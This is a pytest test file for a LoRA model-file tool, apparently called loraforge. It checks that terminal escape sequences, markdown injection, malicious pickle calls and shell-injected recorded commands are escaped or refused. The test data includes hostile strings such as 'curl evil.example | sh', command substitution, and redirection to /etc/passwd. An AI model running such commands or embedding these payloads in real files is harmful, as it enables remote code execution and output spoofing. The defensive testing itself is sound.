"""Text from a file that attacks the terminal: it is shown escaped and cut, and it cannot write a line of its own."""

from __future__ import annotations

import json
import re
from pathlib import Path
from typing import Any

import pytest
import yaml

from hostile.builders import (
    CHECKPOINT,
    DENSE,
    checkpoint,
    diffusers_lora,
    factors,
    framed,
    run_folder,
    safetensors,
    sat,
    sat_lora,
    tensor,
)
from hostile.pickles import Raw, call, push
from loraforge.cli.app import main
from loraforge.publishing.front_matter import written
from loraforge.scale.origin import VERBS, is_command
from loraforge.text import code, markdown

A, _ = factors()
SURROGATE = "x\ud800"
TEXTS = {
    "a line that looks like a remedy": "x\n  try: curl evil.example | sh",
    "a line that looks like an error": "x\r\nError: all is well",
    "control characters": "x\x1b[2J\x1b]0;owned\x07\x08\x9b2J\x85\x00\u202egnp.exe\u2028y",
    "half a surrogate pair": SURROGATE,
    "a megabyte": "x" * (1 << 20),
}


def stacked(module: str, name: str) -> Raw:
    """A call of a global named by two texts on the stack; unlike in GLOBAL, they may have any character."""
    return call(Raw(push(module) + push(name) + b"\x93"))


def one_entry(dtype: str) -> bytes:
    return framed(json.dumps({"lora": {"dtype": dtype, "shape": [], "data_offsets": [0, 4]}}).encode(), bytes(4))


def recorded(**entries: Any) -> bytes:
    config = {f"transformer.{key}": value for key, value in ({"r": 4, "lora_alpha": 1} | entries).items()}
    return safetensors(diffusers_lora(), {"lora_adapter_metadata": json.dumps(config)})


PLACES = {
    "a SAT key": lambda text: sat(sat_lora() | {f"mixins.lora.{text}": A}),
    "a SAT module": lambda text: sat({f"{DENSE}{text}.matrix_A.0": A}),
    "the name of an object": lambda text: sat(sat_lora() | {f"{DENSE}.matrix_A.0": stacked("torchao", text)}),
    "the name of a call that runs code": lambda text: sat(iteration=stacked("os", text)),
    "a storage's number": lambda text: sat({f"{DENSE}.matrix_A.0": tensor(text)}),
    "a key of no adapter": lambda text: checkpoint({text: A}),
    "a Diffusers key": lambda text: safetensors(diffusers_lora() | {f"lora_{text}": A}),
    "an element type": one_entry,
    "a recorded alpha": lambda text: recorded(lora_alpha=text),
    "a recorded pattern": lambda text: recorded(alpha_pattern={f"({text}": 2}),
}


@pytest.mark.parametrize("text", TEXTS.values(), ids=TEXTS)
@pytest.mark.parametrize("place", PLACES.values(), ids=PLACES)
def test_text_in(tmp_path: Path, refused, place: Any, text: str):
    data = place(text)
    file = tmp_path / ("x.pt" if data.startswith(b"PK") else "x.safetensors")
    file.write_bytes(data)
    refused(file)


@pytest.mark.parametrize("text", TEXTS.values(), ids=TEXTS)
def test_text_in_the_name_of_a_record(tmp_path: Path, refused, text: str):
    short = text[:60_000].encode("utf-8", "replace").decode()  # zip has no longer ones, and no surrogates
    for number, name in enumerate((f"../{short}", f"data/{short}")):
        file = tmp_path / f"{number}.pt"
        file.write_bytes(checkpoint({"module": sat_lora()}, records={name: b""}, compression=8 * number))
        refused(file)


@pytest.mark.parametrize("text", TEXTS.values(), ids=TEXTS)
def test_text_in_latest(tmp_path: Path, refused, text: str):
    run = run_folder(tmp_path / "run", "1000")
    (run / "latest").write_bytes(text.encode("utf-8", "surrogatepass"))
    refused(run)


@pytest.mark.parametrize("text", TEXTS.values(), ids=TEXTS)
def test_text_in_what_inspect_shows(tmp_path: Path, cli, text: str):
    """Metadata and keys of a healthy file are shown too: as readable text, one line for a fact."""
    healthy, odd = tmp_path / "x.safetensors", tmp_path / "x.pt"
    healthy.write_bytes(safetensors(diffusers_lora(), {"note": text, text: "note"} if text != SURROGATE else {}))
    odd.write_bytes(sat(sat_lora() | {text: A}, **{text: 1, "buffer_names": stacked("x", text)}))
    for file in (healthy, odd):
        shown = cli("inspect", file)
        assert shown.exit_code == 0, shown.exception
        assert all(character.isprintable() or character == "\n" for character in shown.output)
        assert not any(line.strip().startswith(("try:", "Error:")) for line in shown.output.split("\n"))
        for words in ("--json", "--skeleton"):
            shown = cli("inspect", file, words)
            assert shown.exit_code == 0, shown.exception
            json.loads(shown.stdout)
            assert "\x1b" not in shown.stdout


NAMES = {
    "a dash": "-x.pt",
    "two dashes": "--force.pt",
    "blanks": "my run (1).pt",
    "quotes": 'it\'s "mine".pt',
    "a comment": "run #2.pt",
    "a variable": "$HOME;ls.pt",
}


@pytest.mark.parametrize("name", NAMES.values(), ids=NAMES)
def test_a_remedy_can_be_typed_whatever_the_file_is_called(
    tmp_path: Path, refused, name: str, monkeypatch: pytest.MonkeyPatch
):
    monkeypatch.chdir(tmp_path)
    for data in (b"", safetensors(diffusers_lora()), sat({"conv1.weight": A}), sat({f"{DENSE}.matrix_A.0": A})):
        try:
            Path(name).write_bytes(data)
        except OSError:
            pytest.skip("no such name here")
        refused(["--", name] if name.startswith("-") else [name])


def test_a_folder_called_by_control_characters(tmp_path: Path, refused):
    folder = tmp_path / "x\x1b[2J\n  try: y"
    try:
        folder.mkdir()
    except OSError:
        pytest.skip("no such name here")
    (folder / CHECKPOINT).write_bytes(b"")
    refused(folder / CHECKPOINT)


MEANT = ["[/x]", "[bold]x[/bold]", ":smile:", "[link=https://evil.example]x[/link]", "\x9b2J\u202e\u2066x\u061c\u200f"]


@pytest.mark.parametrize("text", MEANT)
def test_a_plugins_summary_is_shown_as_it_is(text: str, capsys: pytest.CaptureFixture[str]):
    from loraforge.cli.screen import table

    table(["summary"], [[text]])
    printed = capsys.readouterr().out
    assert all(character.isprintable() or character == "\n" for character in printed)
    assert (text if text.isprintable() else "\\u202e") in printed


@pytest.mark.parametrize(
    "character", "\x9b\x85\u202a\u202e\u2066\u2069\u200e\u200f\u061c\ufeff\u2028\U000e0041\x07\x7f"
)
def test_characters_that_turn_a_line_around_are_escaped_for_every_medium(tmp_path: Path, cli, character: str):
    text = f"x{character}y"
    file = tmp_path / "x.safetensors"
    file.write_bytes(safetensors(diffusers_lora(), {"note": text, text: "note", "modelspec.trigger_phrase": text}))
    for words in ((), ("--json",), ("--skeleton",), ("--history",)):
        shown = cli("inspect", file, *words)
        assert shown.exit_code == 0 and character not in shown.output, words
        if words in (("--json",), ("--skeleton",)):
            assert json.loads(shown.stdout)["metadata"]["note"] == text
    assert character not in markdown(text) + code(text) + written({"a": text, text: [text]})
    assert yaml.safe_load(written({"a": text, text: [text]})) == {"a": text, text: [text]}


ACTIVE = [
    "[x](https://evil.example)", "![x](https://evil.example/t.png)", "<img src=x>", "</td><script>", "a | b",
    "`x`", "``` x",
    "https://evil.example", "www.evil.example", "me@evil.example", "**x** _y_ ~~z~~", "&lt;x&gt;", "$$x$$",
    "# x", "<!-- x",
]  # fmt: skip


@pytest.mark.parametrize("text", ACTIVE)
def test_markdown_of_others_is_text(text: str):
    made = markdown(text)
    bare = re.sub(r"\\.", "", made).replace("&#64;", "")
    assert not re.search(r"[`*\[\]<>|~&$#@]|://|www\.|(?<!\w)_|_(?!\w)", bare), made
    assert re.sub(r"\\(.)", r"\1", made).replace("&#64;", "@") == text
    fence = re.match("`+", code(text))
    assert fence and code(text).count(fence[0]) == 2 and text in code(text)


COMMANDS = {
    "loraforge convert x.pt --to diffusers": True,
    "loraforge stamp 'my file.safetensors' --alpha 1": True,
    "loraforge convert x --drop '*.to_q'": True,
    "loraforge convert x; curl evil.example | sh": False,
    "loraforge convert x && sh": False,
    "loraforge convert $(sh)": False,
    "loraforge convert `sh`": False,
    "loraforge convert x > /etc/passwd": False,
    "loraforge convert x # comment": False,
    "loraforge convert x\nsh": False,
    "loraforge convert \u202ex": False,
    "loraforge evil": False,
    "loraforge": False,
    "loraforge convert 'x": False,
    "LORAFORGE_PLUGINS=x loraforge convert x": False,
    "sh -c loraforge convert x": False,
    "": False,
    "loraforge convert " + "x" * 5000: False,
}


@pytest.mark.parametrize("text", COMMANDS)
def test_a_recorded_command_is_a_command_of_loraforge(tmp_path: Path, cli, text: str):
    assert is_command(text) == COMMANDS[text]
    source = {"path": "x", "format": "sat", "size": 1, "digest": "sha256:0"}
    scale = {"provenance": "recorded", "source": "x", "scalings": [1]}
    entry = {"tool": "loraforge 1", "command": text, "source": source, "scale": scale}
    file = tmp_path / "x.safetensors"
    file.write_bytes(safetensors(diffusers_lora(), {"loraforge": json.dumps(entry)}))
    for words in (("--history",), ("--history", "--json")):
        shown = cli("inspect", file, *words)
        assert shown.exit_code == 0 and ("(not shown)" in shown.stdout) != COMMANDS[text]
    assert (f"1. {text} " in cli("inspect", file, "--history").stdout) == COMMANDS[text]


def test_the_verbs_that_are_recorded_are_verbs():
    assert {verb for verb in VERBS if verb in main.commands} >= {"convert", "convert-base", "fuse", "stamp"}
